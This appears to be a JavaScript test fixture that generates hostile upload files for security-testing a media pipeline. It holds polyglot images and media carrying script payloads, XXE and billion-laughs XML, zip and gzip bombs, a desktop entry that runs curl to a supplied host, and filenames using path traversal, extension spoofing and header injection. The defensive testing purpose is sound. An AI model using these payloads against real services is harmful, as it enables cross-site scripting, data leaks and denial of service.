// Files that mean no good: each is one of these contents under one of these names, said to be of one of
// these types. What would run in them sets a mark, goes elsewhere, or asks a server that counts.

import { crc32 as crc, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { landscape, png, wav } from './samples.mjs';

const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const be32 = (n) => {
  const made = Buffer.alloc(4);
  made.writeUInt32BE(n >>> 0);
  return made;
};
const MIB = 1024 * 1024;

/** Everything a script could do that somebody would notice. */
const deed = (elsewhere) =>
  `for(const w of [self,self.parent,self.top,self.opener])try{w.hacked=1}catch{};` +
  `try{fetch("${elsewhere}/fetch")}catch{};try{new Image().src="${elsewhere}/image"}catch{};` +
  `try{open("${elsewhere}/open")}catch{};try{top.location="${elsewhere}/top"}catch{}`;

const page = (elsewhere) =>
  `<!doctype html><script>${deed(elsewhere)}</script><img src=x onerror='${deed(elsewhere)}'>` +
  `<meta http-equiv=refresh content="0;url=${elsewhere}/refresh"><iframe src="${elsewhere}/frame"></iframe>` +
  `<form action="${elsewhere}/form"></form><script>document.forms[0].submit()</script>`;

const svg = (elsewhere, inside = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload='${deed(elsewhere)}'>` +
  `<script>${deed(elsewhere)}</script><image href="${elsewhere}/svg.png"/><use xlink:href="${elsewhere}/use.svg#x"/>${inside}</svg>`;

const HTML_IN_PNG = (html) => {
  const made = png(8, 8, () => [9, 99, 99]);
  const text = bytes('tEXt', 'Comment\0', html);
  return bytes(made.subarray(0, 33), be32(text.length - 4), text, be32(0), made.subarray(33));
};

/** A picture that says how large it is, and has nothing or little behind it. */
const hugePng = (width, height, data = '') =>
  bytes('\x89PNG\r\n\x1a\n', be32(13), 'IHDR', be32(width), be32(height), '\x08\x06\0\0\0', be32(0), data);
/** One that is whole: many points, few bytes. */
const flatPng = (side) => {
  const rows = Buffer.alloc(side * (1 + Math.ceil(side / 8)));
  const made = png(1, 1, () => [0, 0, 0]);
  const header = bytes('IHDR', be32(side), be32(side), '\x01\0\0\0\0');
  const data = bytes('IDAT', deflateSync(rows));
  const sealed = (part) => bytes(be32(part.length - 4), part, be32(crc(part)));
  return bytes(made.subarray(0, 8), sealed(header), sealed(data), sealed(Buffer.from('IEND')));
};

function zipBomb() {
  const zeros = Buffer.alloc(16 * MIB);
  const packed = deflateRawSync(zeros, { level: 9 });
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 0, 'latin1');
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(crc(zeros), 14);
  header.writeUInt32LE(packed.length, 18);
  header.writeUInt32LE(zeros.length, 22);
  header.writeUInt16LE(5, 26);
  return bytes(header, '0.bin', packed);
}

const box = (name, inside) => bytes(be32(8 + inside.length), name, inside);

/** What may be in a file: by name, so that a failure says which it was. */
export function contents(elsewhere) {
  const html = page(elsewhere);
  const gzipBomb = gzipSync(Buffer.alloc(16 * MIB), { level: 9 });
  const playlist = `#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:1,\n${elsewhere}/stream.ts\n#EXT-X-ENDLIST\n`;
  const jpeg = (width, height, comment) =>
    bytes('\xff\xd8\xff\xfe', Buffer.from([(comment.length + 2) >> 8, (comment.length + 2) & 255]), comment,
      '\xff\xc0\0\x11\x08', Buffer.from([height >> 8, height & 255, width >> 8, width & 255]), '\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xd9');
  const gif = (width, height, rest) => bytes('GIF89a', Buffer.from([width & 255, width >> 8, height & 255, height >> 8]), '\0\0\0', rest);
  const frame = '\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0;';
  return {
    'a page': bytes(html),
    'a page behind spaces': bytes(' '.repeat(700), html),
    'a page in UTF-16': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html, 'utf16le')]),
    'a page in UTF-7': bytes('+ADw-script+AD4-hacked=1+ADw-/script+AD4-', html),
    'a page in XML': bytes(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${deed(elsewhere)}</script></html>`),
    'XML with a stylesheet': bytes(`<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/x.xsl" type="text/xsl"?><a/>`),
    'XML that asks for more': bytes(`<!DOCTYPE a [<!ENTITY b SYSTEM "${elsewhere}/entity">]><a>&b;</a>`),
    'a laugh': bytes(`<!DOCTYPE a [<!ENTITY a "ha">${[...'bcdefghij'].map((c, n) => `<!ENTITY ${c} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]><a>&j;</a>`),
    'SVG': bytes(svg(elsewhere)),
    'SVG with a page in it': bytes(svg(elsewhere, `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${html}</body></foreignObject>`)),
    'SVG behind a comment': bytes(`<!--${'x'.repeat(600)}-->`, svg(elsewhere)),
    'packed SVG': gzipSync(svg(elsewhere)),
    'a script': bytes(deed(elsewhere)),
    'a module': bytes(`export default 1;${deed(elsewhere)}`),
    'GIF and script': bytes(`GIF89a/*\x01\0\x01\0*/=1;${deed(elsewhere)}//`, html),
    'GIF and page': gif(1, 1, `${html};`),
    'GIF of all points': gif(0xffff, 0xffff, frame),
    'GIF with a large first picture': gif(1, 1, frame),
    'PNG and page': bytes('\x89PNG\r\n\x1a\n', html),
    'PNG with a page in it': HTML_IN_PNG(html),
    'PNG with a page behind it': bytes(landscape(40, 30), html),
    'PNG of all points': hugePng(0x7fffffff, 0x7fffffff),
    'PNG of many points': hugePng(60_000, 60_000, bytes(be32(4), 'IDAT', be32(0))),
    'PNG whole with 400 million points': flatPng(20_000),
    'PNG whole with 36 million points': flatPng(6_000),
    'PNG that ends': landscape(40, 30).subarray(0, 60),
    'PNG without a size': hugePng(0, 0),
    'JPEG with a page in it': jpeg(16, 16, html.slice(0, 1_000)),
    'JPEG of all points': jpeg(0xffff, 0xffff, 'x'),
    'JPEG that never ends': bytes('\xff\xd8', '\xff'.repeat(5_000)),
    'WebP of all points': bytes('RIFF\x20\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\xff\xff\xff\xff\xff\xff', html),
    'WebP and page': bytes('RIFF\xff\xff\xff\x7fWEBPVP8 ', html),
    'AVIF': bytes(box('ftyp', bytes('avif\0\0\0\0avifmif1')), html),
    'TIFF': bytes('II*\0\x08\0\0\0', html),
    'BMP': bytes('BM\xff\xff\xff\x7f', html),
    'icon': bytes('\0\0\x01\0\x01\0\xff\xff', html),
    'PDF with script': bytes(`%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\("${elsewhere}/pdf"\\))>>>>endobj\ntrailer<</Root 1 0 R>>`),
    'PDF and page': bytes('%PDF-1.7\n', html),
    'zip bomb': zipBomb(),
    'gzip bomb': gzipBomb,
    'MP4 and page': bytes(box('ftyp', bytes('isom\0\0\0\0isom')), html),
    'MP4 with a box of all bytes': bytes(box('ftyp', bytes('isom\0\0\0\0isom')), be32(0xffffffff), 'moov', be32(0xffffffff), 'mvhd'),
    'MP4 that is elsewhere': bytes(box('ftyp', bytes('qt  \0\0\0\0qt  ')), box('moov', box('rmra', box('rmda', box('rdrf', bytes('\0\0\0\0url ', be32(60), `${elsewhere}/film.mov`.padEnd(60, '\0'))))))),
    'WebM and page': bytes('\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08\x42\x82\x84webm', html),
    'Matroska that asks for more': bytes('\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\x1f\x42\x82\x88matroska', elsewhere),
    'Ogg and page': bytes('OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x13OpusHead', html),
    'MP3 and page': bytes('ID3\x04\0\0\0\0\x0f\x7f', html),
    'MP3 that is a playlist': bytes('ID3\x04\0\0\0\0\0\0', playlist),
    'a playlist': bytes(playlist),
    'DASH': bytes(`<?xml version="1.0"?><MPD><BaseURL>${elsewhere}/dash</BaseURL></MPD>`),
    'captions': bytes(`WEBVTT\n\n00:00.000 --> 00:10.000\n<script>${deed(elsewhere)}</script>`),
    'WAV of all bytes': bytes(wav(1).subarray(0, 40), be32(0xffffffff), html),
    'FLAC and page': bytes('fLaC\x80\xff\xff\xff', html),
    'Flash': bytes('FWS\x08\xff\xff\xff\x7f', html),
    'wasm': bytes('\0asm\x01\0\0\0', html),
    'a program': bytes('\x7fELF\x02\x01\x01', html),
    'a Windows program': bytes('MZ\x90\0', html),
    'a link': bytes(`[InternetShortcut]\r\nURL=${elsewhere}/shortcut\r\n`),
    'a starter': bytes(`[Desktop Entry]\nType=Application\nExec=curl ${elsewhere}/desktop\n`),
    'an archive of a page': bytes(`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html}\r\n--x--`),
    'a style': bytes(`@import "${elsewhere}/style.css"; body{background:url(${elsewhere}/css.png)}`),
    'a manifest': bytes(`CACHE MANIFEST\n${elsewhere}/manifest`),
    'zeros': Buffer.alloc(5_000),
    'one byte': Buffer.from('<'),
  };
}

const TURN = '\u202e';
export const NAMES = [
  'cat.png', 'cat.jpg', 'cat.gif', 'cat.webp', 'song.mp3', 'song.ogg', 'film.mp4', 'film.webm', 'paper.pdf', 'all.zip',
  'page.html', 'page.xhtml', 'drawing.svg', 'drawing.svgz', 'code.js', 'code.mjs', 'x.swf', 'x.exe', 'x.xsl', 'list.m3u8',
  `${TURN}gnp.exe`, `photo${TURN}gpj.scr`, '\u2066\u2067\u2068cat.png', `${TURN.repeat(200)}x.png`, '\u200f\u061ccat.png',
  '../../../etc/passwd', '..\\..\\windows\\system32\\cmd.exe', '/etc/passwd', 'C:\\con', '\\\\server\\share\\cat.png', 'a/b/c/../d.png',
  '<img src=x onerror=hacked=1>.png', '"><script>hacked=1</script>.png', "' onload='hacked=1", '</title><script>hacked=1</script>',
  '<svg onload=hacked=1>', '&lt;script&gt;', '${hacked=1}', '{{hacked=1}}.png', 'javascript:hacked=1', 'data:text/html,<script>hacked=1</script>',
  'blob:null/x', 'cat.png\r\nContent-Type: text/html\r\n\r\n<script>hacked=1</script>', 'a\nb\tc.png', 'cat\0.png', 'cat.html\0.png',
  '%2e%2e%2fcat.png', '%00.png', '%', '%zz%', 'cat.png%0d%0aSet-Cookie: a=b', 'cat.png;.html', 'cat.png.html', 'cat.html.png',
  '.', '..', '...', ' ', '.htaccess', '~', 'CON', 'NUL.png', 'aux.html', 'undefined', 'null', '__proto__', 'constructor', 'toString', '0', '-rf',
  '😀'.repeat(90), 'W'.repeat(500), `${'long '.repeat(100)}.png`, 'a'.repeat(300) + '.html', `${'\u0301'.repeat(200)}a.png`, 'ا‎لعربية.png', '\u200b\u200b.png',
  '\ufeffcat.png', 'cat\u2028.png', 'cat\u2029.png', '\ue000.png', '\ud800cat.png', 'ﷺ'.repeat(60), 'cat.ⓗⓣⓜⓛ', 'ｃａｔ．ｈｔｍｌ', `"filename*=UTF-8''x.html`, 'a.png"; filename="b.html',
];
export const TYPES = [
  'image/png', 'image/jpeg', 'image/gif', 'image/webp', 'image/svg+xml', 'audio/mpeg', 'audio/ogg', 'audio/webm', 'audio/wav', 'audio/flac',
  'video/mp4', 'video/webm', 'text/html', 'application/xhtml+xml', 'text/xml', 'text/javascript', 'application/pdf', 'application/zip',
  'application/octet-stream', 'image/avif', 'image/x-icon', 'application/vnd.apple.mpegurl', 'audio/mpegurl', 'text/css', 'multipart/related',
  'image/png; charset=text/html', 'image/png,text/html', 'IMAGE/PNG', 'image/*', '*/*', 'x', 'text/html;image/png', 'application/x-shockwave-flash',
];
const KINDS = ['image', 'voice', 'audio', 'video', 'document'];

/** So many of them, each time the same ones. */
export function* hostile(count, elsewhere) {
  const all = Object.entries(contents(elsewhere));
  for (let n = 0; n < count; n += 1) {
    const [what, made] = all[n % all.length];
    const round = Math.floor(n / all.length);
    // Every content comes under each kind of name and type in turn; the first time as what a picture would be.
    const name = NAMES[(n * 31 + round * 7) % NAMES.length];
    const type = TYPES[(n * 5 + round * 11) % TYPES.length];
    yield { what, name, type, kind: KINDS[(n + round) % KINDS.length], bytes: bytes(made, `\n${n}`), alt: NAMES[(n * 17) % NAMES.length].toWellFormed() };
  }
}
